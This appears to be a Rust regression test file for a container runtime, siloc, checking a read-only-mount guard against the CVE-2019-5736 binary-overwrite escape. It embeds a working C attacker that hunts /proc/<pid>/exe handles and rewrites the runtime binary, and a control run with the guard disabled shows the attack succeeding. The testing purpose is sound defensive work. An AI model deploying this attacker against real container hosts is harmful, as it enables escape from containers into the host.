//! CVE-2019-5736 class: a process in the container grabs `/proc/<pid>/exe` of the
//! siloc process that joins the container during `siloc exec`, and rewrites the siloc
//! binary through it once siloc has exited. siloc runs from a read-only detached mount
//! of its binary (src/exe_guard.rs), so the rewrite fails with EROFS.
//!
//! The attacker is a small static C program (built here with gcc -static) running as
//! container root with CAP_SYS_PTRACE, so that it may open the exe of siloc's
//! non-dumpable process. A control run with the guard switched off shows the attack
//! reaches the binary, so the test can fail. Both runs use a copy of siloc.
//! Needs root and gcc with a static libc; skips loudly without them.

use crate::common;

use std::path::Path;
use std::process::Command;

use common::TestEnv;
use serde_json::json;

const ATTACK_C: &str = r#"
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

/* Collects O_PATH handles to the exe of every other process, then keeps trying to
   reopen them for writing; prints handles, successful writes and the last errno. */
int main(int argc, char **argv) {
    int seconds = argc > 1 ? atoi(argv[1]) : 10;
    struct stat me, bb;
    stat("/proc/self/exe", &me);
    stat("/bin/busybox", &bb);
    int fds[4096], n = 0, writes = 0, last = 0;
    ino_t seen[4096]; int nseen = 0;
    time_t end = time(NULL) + seconds;
    char p[64];
    while (time(NULL) < end) {
        DIR *d = opendir("/proc");
        struct dirent *e;
        while (d && (e = readdir(d))) {
            int pid = atoi(e->d_name);
            if (pid <= 0 || pid == getpid()) continue;
            snprintf(p, sizeof p, "/proc/%d/exe", pid);
            int fd = open(p, O_PATH);
            if (fd < 0) continue;
            struct stat st;
            int dup = fstat(fd, &st) != 0 || st.st_ino == me.st_ino || st.st_ino == bb.st_ino;
            for (int i = 0; i < nseen && !dup; i++) dup = seen[i] == st.st_ino;
            if (dup || n >= 4096) { close(fd); continue; }
            seen[nseen++] = st.st_ino;
            fds[n++] = fd;
        }
        if (d) closedir(d);
        for (int i = 0; i < n; i++) {
            snprintf(p, sizeof p, "/proc/self/fd/%d", fds[i]);
            int w = open(p, O_WRONLY);
            if (w >= 0) {
                if (write(w, "PWNED", 5) == 5) writes++;
                close(w);
            } else if (errno != ETXTBSY) {
                last = errno;
            }
        }
    }
    printf("handles=%d writes=%d errno=%d\n", n, writes, last);
    return 0;
}
"#;

/// Builds the attacker; `None` when gcc or a static libc is missing here. A compile
/// error in the attacker itself fails the test.
fn build_attacker(dir: &Path) -> Option<std::path::PathBuf> {
    let has_gcc = Command::new("gcc")
        .arg("--version")
        .output()
        .is_ok_and(|o| o.status.success());
    if !has_gcc || !Path::new("/usr/lib/x86_64-linux-gnu/libc.a").exists() {
        return None;
    }
    let src = dir.join("attack.c");
    let bin = dir.join("attack");
    std::fs::write(&src, ATTACK_C).unwrap();
    let st = Command::new("gcc")
        .args(["-static", "-O2", "-o"])
        .arg(&bin)
        .arg(&src)
        .status()
        .unwrap();
    assert!(st.success(), "attacker does not compile");
    Some(bin)
}

/// Runs one round: a container whose main process is the attacker, many `siloc exec`
/// calls through the siloc copy `siloc`, then the attacker's summary line.
fn attack_round(
    env: &TestEnv,
    attacker: &Path,
    siloc: &Path,
    name: &str,
    guard: bool,
) -> (String, Vec<u8>) {
    let mut b = env.bundle(name, &["/attack", "8"]);
    std::fs::copy(attacker, b.dir.join("rootfs/attack")).unwrap();
    b.edit(|s| {
        for set in ["bounding", "effective", "permitted"] {
            s["process"]["capabilities"][set] = json!(["CAP_SYS_PTRACE", "CAP_KILL"]);
        }
        s["process"]["capabilities"]["ambient"] = json!([]);
    });
    let id = env.id(name);
    let out_file = env.dir.path().join(format!("{name}.out"));
    let siloc_cmd = |args: &[&str]| {
        let mut c = Command::new(siloc);
        c.arg("--root")
            .arg(&env.root)
            .arg("--config")
            .arg(&env.config)
            .args(args);
        if !guard {
            c.env("SILOC_UNSAFE_NO_EXE_GUARD", "1");
        }
        c
    };
    let st = siloc_cmd(&["run", "--detach", "--bundle", b.path(), &id])
        .stdout(std::fs::File::create(&out_file).unwrap())
        .stderr(std::process::Stdio::null())
        .status()
        .unwrap();
    assert!(st.success());
    // siloc joins the container 40 times; the attacker watches for it.
    for _ in 0..40 {
        let _ = siloc_cmd(&["exec", &id, "true"]).output();
    }
    for _ in 0..200 {
        if std::fs::read_to_string(&out_file)
            .unwrap_or_default()
            .contains("handles=")
        {
            break;
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let _ = siloc_cmd(&["delete", "--force", &id]).output();
    (
        std::fs::read_to_string(&out_file).unwrap_or_default(),
        std::fs::read(siloc).unwrap(),
    )
}

fn field(summary: &str, key: &str) -> i64 {
    summary
        .split_whitespace()
        .find_map(|kv| kv.strip_prefix(&format!("{key}=")))
        .and_then(|v| v.parse().ok())
        .unwrap_or(-1)
}

#[test]
fn container_cannot_overwrite_siloc_through_proc_exe() {
    needs_root!();
    needs_test_hooks!();
    let env = TestEnv::new();
    let Some(attacker) = build_attacker(env.dir.path()) else {
        eprintln!("SKIPPED security: needs gcc with a static libc (libc6-dev)");
        return;
    };
    let original = std::fs::read(common::siloc_bin()).unwrap();

    // Control: without the guard the attack rewrites the (copied) binary.
    let copy = env.dir.path().join("siloc-unguarded");
    std::fs::copy(common::siloc_bin(), &copy).unwrap();
    let (summary, after) = attack_round(&env, &attacker, &copy, "control", false);
    eprintln!("control: {summary}");
    assert!(
        field(&summary, "handles") >= 1,
        "attacker never saw siloc: {summary:?}"
    );
    assert!(
        field(&summary, "writes") >= 1,
        "control attack failed: {summary:?}"
    );
    assert_ne!(
        after, original,
        "control: the copy should have been rewritten"
    );

    // Guarded: same attack, the binary stays intact and writes fail with EROFS.
    let copy = env.dir.path().join("siloc-guarded");
    std::fs::copy(common::siloc_bin(), &copy).unwrap();
    let (summary, after) = attack_round(&env, &attacker, &copy, "guarded", true);
    eprintln!("guarded: {summary}");
    assert!(
        field(&summary, "handles") >= 1,
        "attacker never saw siloc: {summary:?}"
    );
    assert_eq!(field(&summary, "writes"), 0, "{summary:?}");
    assert_eq!(field(&summary, "errno"), libc::EROFS as i64, "{summary:?}");
    assert_eq!(after, original, "the siloc binary changed");
}

/// Runs `siloc run` of a `true` container from `copy` under strace in a private mount
/// namespace, with `copy` bind-mounted read-only onto itself first when `ro`; returns
/// whether siloc re-executed itself (an `execveat` in the trace) and run's status.
fn run_traced(env: &TestEnv, copy: &Path, name: &str, ro: bool) -> (bool, bool) {
    let b = env.bundle(name, &["true"]);
    let id = env.id(name);
    let log = env.dir.path().join(format!("{name}.strace"));
    let script = format!(
        "{} exec strace -f -qq -e trace=execveat -o \"$1\" \"$0\" --root \"$2\" --config \"$3\" run --bundle \"$4\" \"$5\"",
        if ro {
            "mount --bind -o ro \"$0\" \"$0\" &&"
        } else {
            ""
        }
    );
    let st = Command::new("unshare")
        .args(["-m", "--propagation", "private", "sh", "-c", &script])
        .arg(copy)
        .arg(&log)
        .arg(&env.root)
        .arg(&env.config)
        .arg(b.path())
        .arg(&id)
        .status()
        .unwrap();
    let _ = env.siloc(&["delete", "--force", &id]);
    let trace = std::fs::read_to_string(&log).unwrap_or_default();
    (trace.contains("execveat("), st.success())
}

#[test]
fn siloc_on_a_read_only_mount_runs_without_the_reexec() {
    needs_root!();
    let has_strace = Command::new("strace")
        .arg("-V")
        .output()
        .is_ok_and(|o| o.status.success());
    if !has_strace {
        eprintln!("SKIPPED security: needs strace");
        return;
    }
    let env = TestEnv::new();
    let copy = env.dir.path().join("siloc-ro");
    std::fs::copy(common::siloc_bin(), &copy).unwrap();
    // Control: from a writable file siloc re-executes from its read-only copy.
    let (reexec, ok) = run_traced(&env, &copy, "rw", false);
    assert!(ok, "run from a writable binary failed");
    assert!(reexec, "siloc did not re-execute from a writable binary");
    // From a read-only mount it is protected already: no re-exec, same result.
    let (reexec, ok) = run_traced(&env, &copy, "ro", true);
    assert!(ok, "run from a read-only binary failed");
    assert!(
        !reexec,
        "siloc re-executed although its binary is read-only"
    );
    assert!(env.leftovers().is_empty(), "{:?}", env.leftovers());
}
